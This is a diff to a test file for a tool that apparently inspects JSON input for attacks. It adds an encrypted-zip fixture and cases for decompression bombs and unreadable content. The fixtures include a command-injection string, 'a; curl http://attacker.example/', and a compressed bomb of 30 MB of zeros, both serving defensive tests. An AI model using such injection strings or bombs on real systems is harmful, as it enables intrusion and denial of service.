@@ -14,6 +14,7 @@ const cwd = mkdtempSync(join(tmpdir(), 'postern inspect '));
 after(() => rmSync(cwd, { recursive: true }));
 const attack = { cmd: 'a; curl http://attacker.example/' };
 const bomb = { v: gzipSync(Buffer.alloc(30_000_000)).toString('base64') };
+const sealed = { v: encryptedZip().toString('base64') };
 const files = {
   'attack.json': JSON.stringify(attack),
   'benign.json': '{\n  "name": "Tom & Jerry"\n}\n',
@@ -22,6 +23,7 @@ const files = {
   'clean.jsonl': '{"a":"x"}\n{"a":"y"}\n',
   'bytes.jsonl': Buffer.concat([Buffer.from('{"a":"x"}\n'), Buffer.from([0xff, 0xfe, 0x0a]), Buffer.from('{"a":"y"}\n')]),
   'bomb.json': JSON.stringify(bomb),
+  'sealed.json': JSON.stringify(sealed),
   'empty.jsonl': '',
   'blank.jsonl': '\n \r\n\n',
   'mark.json': `\ufeff${JSON.stringify(attack)}`,
@@ -103,20 +105,28 @@ const rows: readonly {
     output: [one(1, 'certain', 'observe')],
   },
   {
-    name: 'a bomb is incomplete, and that is not clean',
+    name: 'a bomb is an attack, and the rest of it was not looked at',
     args: ['bomb.json'],
     code: 1,
-    output: [/"level":"none","verdict":"observe","reason":"[^"]*\\"ratio\\", and onIncomplete is observe","incomplete":"ratio"/],
+    output: [
+      /"level":"certain","verdict":"observe","reason":"[^"]*\\"ratio\\", and onIncomplete is observe","incomplete":"ratio".*"class":"bomb"/,
+    ],
+  },
+  {
+    name: 'what cannot be read is incomplete, and that is not clean',
+    args: ['sealed.json'],
+    code: 1,
+    output: [/"level":"none","verdict":"observe","reason":"[^"]*\\"unreadable\\", and onIncomplete is observe","incomplete":"unreadable"/],
   },
   {
     name: 'a policy that blocks what is incomplete',
-    args: ['bomb.json', '--policy', 'block.yaml'],
+    args: ['sealed.json', '--policy', 'block.yaml'],
     code: 1,
     output: [one(1, 'none', 'block')],
   },
   {
     name: 'a policy that allows what is incomplete',
-    args: ['bomb.json', '--policy', 'block.yaml', '--function', 'open'],
+    args: ['sealed.json', '--policy', 'block.yaml', '--function', 'open'],
     code: 0,
     output: [one(1, 'none', 'allow')],
   },
@@ -217,3 +227,22 @@ test('lines are put together from any pieces, and one too long does not hide the
     assert.deepEqual(lines, ['1 é1', '2 ', '3 €2', '4 !', '5 end'], `pieces of ${size}`);
   }
 });
+
+/** An archive whose one member is encrypted (APPNOTE.TXT 4.4.4, bit 0): its name can be read, its content cannot. */
+function encryptedZip(): Buffer {
+  const member = Buffer.alloc(26);
+  member.writeUInt16LE(20, 0);
+  member.writeUInt16LE(1, 2);
+  member.writeUInt32LE(12, 14);
+  member.writeUInt32LE(12, 18);
+  member.writeUInt16LE(5, 22);
+  const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), member, Buffer.from('a.txt'), Buffer.alloc(12, 0x9f)]);
+  const central = Buffer.concat([Buffer.from('PK\x01\x02\x14\x00', 'latin1'), member, Buffer.alloc(14), Buffer.from('a.txt')]);
+  const end = Buffer.alloc(22);
+  end.write('PK\x05\x06', 'latin1');
+  end.writeUInt16LE(1, 8);
+  end.writeUInt16LE(1, 10);
+  end.writeUInt32LE(central.length, 12);
+  end.writeUInt32LE(local.length, 16);
+  return Buffer.concat([local, central, end]);
+}
